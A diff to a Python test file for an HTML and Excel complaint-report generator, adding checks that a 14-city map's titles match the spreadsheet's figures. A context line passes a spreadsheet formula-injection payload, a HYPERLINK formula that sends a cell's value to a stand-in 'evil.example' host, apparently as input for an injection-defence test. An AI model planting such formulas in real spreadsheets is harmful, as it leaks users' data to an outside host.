@@ -132,6 +132,9 @@ def test_html_and_excel(report_world, tmp_path):
     assert overview["相关帖子"][:2] == (7, 2)
     cities = {r[0]: r for r in book["地市投诉与万投比"].iter_rows(min_row=2, values_only=True)}
     assert cities["长沙"][5] == 0.01
+    assert html.count('stroke="#fff" stroke-width="1"><title>') == 14  # the map of the 14 cities
+    assert "<title>长沙：万投比 0.01</title>" in html
+    assert f"<title>株洲：万投比 {cities['株洲'][5]:g}</title>" in html  # the map shows the sheet's figure
 
 
 @pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?x="&A1,"点击")',
